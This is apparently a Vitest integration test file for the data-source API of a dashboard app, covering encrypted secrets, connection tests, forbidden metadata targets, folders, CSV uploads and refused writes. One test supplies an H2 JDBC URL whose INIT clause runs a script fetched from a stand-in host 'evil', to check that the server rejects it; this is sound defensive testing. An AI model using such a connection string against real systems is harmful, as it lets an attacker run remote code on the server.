import { mkdirSync, mkdtempSync, rmSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { sql } from 'drizzle-orm';
import { createQueryEngine } from '@tessera/query';
import postgres from 'postgres';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { metadataTargets } from './deps';
import { createTestApp, type TestApp } from './test-app';

const PG_URL = process.env.PG_TEST_URL ?? 'postgres://postgres@127.0.0.1:5432/test';
async function pgReachable() {
  const client = postgres(PG_URL, { max: 1, connect_timeout: 3, onnotice: () => {} });
  try {
    await client`select 1`;
    return true;
  } catch {
    if (process.env.REQUIRE_SERVICES === '1') throw new Error(`PostgreSQL is required at ${PG_URL}`);
    return false;
  } finally {
    await client.end({ timeout: 1 });
  }
}

let t: TestApp;
let token = '';
let orgId = '';
let hasPg = false;
let dir = '';
const pgJdbc = (() => {
  const u = new URL(PG_URL);
  return {
    dbType: 'POSTGRESQL',
    url: `jdbc:postgresql://${u.hostname}:${u.port || 5432}${u.pathname}`,
    user: decodeURIComponent(u.username) || 'postgres',
  };
})();

beforeAll(async () => {
  hasPg = await pgReachable();
  dir = mkdtempSync(path.join(os.tmpdir(), 'tessera-src-'));
  mkdirSync(path.join(dir, 'duckdb'));
  // This server's "metadata database" is the test database, so sources must not point at it.
  const query = createQueryEngine({
    dataDir: path.join(dir, 'duckdb'),
    uploadDir: path.join(dir, 'files'),
    forbiddenTargets: ['localhost:5432/forbidden_meta'],
  });
  t = await createTestApp({}, { query });
  // the file store and the engine must agree on the upload folder
  const { createLocalFileStore } = await import('@tessera/core');
  t.deps.files = createLocalFileStore(path.join(dir, 'files'));
  token = await t.bootstrapAdmin();
  orgId = ((await t.call('GET', '/api/v1/orgs', { token })).body.data as { id: string }[])[0]!.id;
});
afterAll(async () => {
  await t.close();
  rmSync(dir, { recursive: true, force: true });
});

const create = (body: Record<string, unknown>) =>
  t.call('POST', '/api/v1/sources', { token, body: { orgId, ...body } });

describe('sources', () => {
  it('seals secrets at rest and never returns them', async () => {
    const res = await create({
      name: 'Warehouse',
      type: 'JDBC',
      config: JSON.stringify({ ...pgJdbc, password: 'hunter2-secret' }),
    });
    expect(res.status).toBe(200);
    const id = (res.body.data as { id: string }).id;
    const raw = await t.db.db.execute(sql`select config::text as c from sources where id = ${id}`);
    const stored = ((raw as unknown as { rows?: { c: string }[] }).rows ??
      (raw as unknown as { c: string }[]))[0]!.c;
    expect(stored).not.toContain('hunter2-secret');
    expect(stored).toContain('enc:v1:');
    const got = await t.call('GET', `/api/v1/sources/${id}`, { token });
    expect(JSON.stringify(got.body)).not.toContain('hunter2');
    // REST carries config as JSON text (Datart's contract)
    const configText = (got.body.data as { config: string }).config;
    expect(JSON.parse(configText).password).toBe('********');
    // saving the masked value (sent back as text, as Datart does) keeps the stored secret
    expect(
      (
        await t.call('PUT', `/api/v1/sources/${id}`, {
          token,
          body: { name: 'Warehouse', config: configText },
        })
      ).body.data,
    ).toBe(true);
    const again = await t.db.db.execute(sql`select config::text as c from sources where id = ${id}`);
    expect(
      ((again as unknown as { rows?: { c: string }[] }).rows ?? (again as unknown as { c: string }[]))[0]!.c,
    ).toBe(stored);
    const list = await t.call('GET', `/api/v1/sources?orgId=${orgId}`, { token });
    expect(JSON.stringify(list.body)).not.toContain('enc:v1');
  });

  it('tests a real PostgreSQL connection, and answers 502 for an unreachable one', async () => {
    if (!hasPg) return;
    const ok = await t.call('POST', '/api/v1/data-provider/test', {
      token,
      body: { orgId, type: 'JDBC', properties: pgJdbc },
    });
    expect(ok.status, JSON.stringify(ok.body)).toBe(200);
    // the local test role is a superuser: the answer stays `true`, with a warning to use a read-only role
    expect(ok.body.data).toBe(true);
    expect(ok.body.warnings).toEqual([expect.stringContaining('superuser')]);
    const zh = await t.call('POST', '/api/v1/data-provider/test', {
      token,
      lang: 'zh-CN',
      body: { orgId, type: 'JDBC', properties: pgJdbc },
    });
    expect(zh.body.warnings).toEqual([expect.stringContaining('超级用户')]);
    const down = await t.call('POST', '/api/v1/data-provider/test', {
      token,
      body: { orgId, type: 'JDBC', properties: { ...pgJdbc, url: 'jdbc:postgresql://127.0.0.1:1/test' } },
    });
    expect(down.status).toBe(502);
  });

  it('refuses a source pointing at the metadata database, and file or embedded engines', async () => {
    const meta = await t.call('POST', '/api/v1/data-provider/test', {
      token,
      body: {
        orgId,
        type: 'JDBC',
        properties: {
          dbType: 'POSTGRESQL',
          url: 'jdbc:postgresql://127.0.0.1:5432/forbidden_meta',
          user: 'postgres',
        },
      },
    });
    expect(meta.status).toBe(422);
    expect(meta.body.exception?.code).toBe('SOURCE_FORBIDDEN');
    const h2 = await create({
      name: 'H2',
      type: 'JDBC',
      config: { dbType: 'H2', url: "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil/x.sql'" },
    });
    expect(h2.status).toBe(400);
    expect(h2.body.exception?.code).toBe('SOURCE_CONFIG_INVALID');
  });

  it('derives metadata targets from DATABASE_URL', () => {
    expect(metadataTargets('postgres://u:p@db.internal:6543/tessera')).toEqual(['db.internal:6543/tessera']);
    expect(metadataTargets(undefined)).toEqual([]);
  });

  it('folders: unique names per folder, no delete while not empty, archive and restore', async () => {
    const folder = (await create({ name: 'Finance', type: 'FOLDER', isFolder: true })).body.data as {
      id: string;
    };
    expect((await create({ name: 'Finance', type: 'FOLDER', isFolder: true })).status).toBe(409);
    const child = (await create({ name: 'Ledger', type: 'FILE', parentId: folder.id, config: {} })).body
      .data as { id: string; index: number };
    expect(child.index).toBe(0);
    const second = (await create({ name: 'Budget', type: 'FILE', parentId: folder.id, config: {} })).body
      .data as { index: number };
    expect(second.index).toBe(1);
    const refused = await t.call('DELETE', `/api/v1/sources/${folder.id}?archive=false`, { token });
    expect(refused.status).toBe(409);
    // a folder cannot move into its own child
    expect(
      (
        await t.call('PUT', `/api/v1/sources/${folder.id}/base`, {
          token,
          body: { name: 'Finance', parentId: child.id },
        })
      ).status,
    ).toBeGreaterThanOrEqual(400);
    expect((await t.call('DELETE', `/api/v1/sources/${child.id}`, { token })).status).toBe(200);
    const archived = (await t.call('GET', `/api/v1/sources/archived?orgId=${orgId}`, { token })).body
      .data as { id: string; name: string }[];
    expect(archived.find((a) => a.id === child.id)?.name).toMatch(/^Ledger\.\d{4}-\d{2}-\d{2} /);
    const restored = await t.call(
      'PUT',
      `/api/v1/sources/unarchive/${child.id}?name=Ledger&parentId=${folder.id}`,
      { token },
    );
    expect(restored.status).toBe(200);
  });

  it('uploads a CSV to a file source and queries it; DML is refused with 422', async () => {
    const src = (await create({ name: 'Sales file', type: 'FILE', config: {} })).body.data as { id: string };
    const form = new FormData();
    form.append(
      'file',
      new Blob(['\uFEFFregion,amount\nnorth,10\nsouth,20\nnorth,5\n'], { type: 'text/csv' }),
      'sales.csv',
    );
    const up = await t.app.request(`/api/v1/files/datasource?sourceId=${src.id}`, {
      method: 'POST',
      body: form,
      headers: { Authorization: `Bearer ${token}` },
    });
    expect(up.status).toBe(200);
    expect(((await up.json()) as { data: string }).data).toMatch(
      new RegExp(`^resources/data/source/${src.id}/\\d+-sales\\.csv$`),
    );
    const run = await t.call('POST', '/api/v1/data-provider/execute/test', {
      token,
      body: {
        sourceId: src.id,
        script: 'select region, sum(amount) as total from sales group by region order by region',
        size: 100,
      },
    });
    expect(run.status, JSON.stringify(run.body)).toBe(200);
    expect((run.body.data as { rows: unknown[][] }).rows).toEqual([
      ['north', 15],
      ['south', 20],
    ]);
    // more files become more tables at once, even uploaded together; re-uploading a table replaces its data
    const upload = (name: string, body: string) => {
      const more = new FormData();
      more.append('file', new Blob([body], { type: 'text/csv' }), name);
      return t.app.request(`/api/v1/files/datasource?sourceId=${src.id}`, {
        method: 'POST',
        body: more,
        headers: { Authorization: `Bearer ${token}` },
      });
    };
    const together = await Promise.all([
      upload('regions.csv', 'region,manager\nnorth,Ana\n'),
      upload('sales.csv', 'region,amount\neast,7\n'),
    ]);
    expect(together.map((r) => r.status)).toEqual([200, 200]);
    const schema = await t.call('GET', `/api/v1/sources/schemas/${src.id}`, { token });
    const tables = (
      schema.body.data as { schemaItems: { tables: { tableName: string }[] }[] }
    ).schemaItems.flatMap((i) => i.tables.map((x) => x.tableName));
    expect(tables.sort()).toEqual(['regions', 'sales']);
    const joined = await t.call('POST', '/api/v1/data-provider/execute/test', {
      token,
      body: {
        sourceId: src.id,
        script: 'select (select count(*) from regions) as regions, (select sum(amount) from sales) as total',
      },
    });
    expect((joined.body.data as { rows: unknown[][] }).rows).toEqual([[1, 7]]);
    const dml = await t.call('POST', '/api/v1/data-provider/execute/test', {
      token,
      body: { sourceId: src.id, script: 'delete from sales' },
    });
    expect(dml.status).toBe(422);
    const empty = await t.call('POST', '/api/v1/data-provider/execute/test', {
      token,
      body: { sourceId: src.id, script: '  ' },
    });
    expect(empty.status).toBe(400);
    const exe = new FormData();
    exe.append('file', new Blob(['MZ...'], { type: 'application/octet-stream' }), 'tool.exe');
    expect(
      (
        await t.app.request(`/api/v1/files/datasource?sourceId=${src.id}`, {
          method: 'POST',
          body: exe,
          headers: { Authorization: `Bearer ${token}` },
        })
      ).status,
    ).toBe(400);
  });

  it('adds the demo source and browses its schema with the time of the last sync', async () => {
    const demo = (await t.call('POST', `/api/v1/sources/demo?orgId=${orgId}`, { token })).body.data as {
      id: string;
      type: string;
    };
    expect(demo.type).toBe('DEMO');
    const schema = await t.call('GET', `/api/v1/sources/schemas/${demo.id}`, { token });
    const items = (
      schema.body.data as { schemaItems: { tables: { tableName: string }[] }[]; updateTime: string }
    ).schemaItems;
    expect(items.flatMap((i) => i.tables.map((tb) => tb.tableName))).toEqual(
      expect.arrayContaining(['orders', 'customers', 'products', 'reviews']),
    );
    expect((schema.body.data as { updateTime: string }).updateTime).toBeTruthy();
    const count = await t.call('POST', '/api/v1/data-provider/execute/test', {
      token,
      body: { sourceId: demo.id, script: 'select count(*) as n from orders' },
    });
    expect((count.body.data as { rows: number[][] }).rows[0]![0]).toBeGreaterThan(15_000);
  });
});
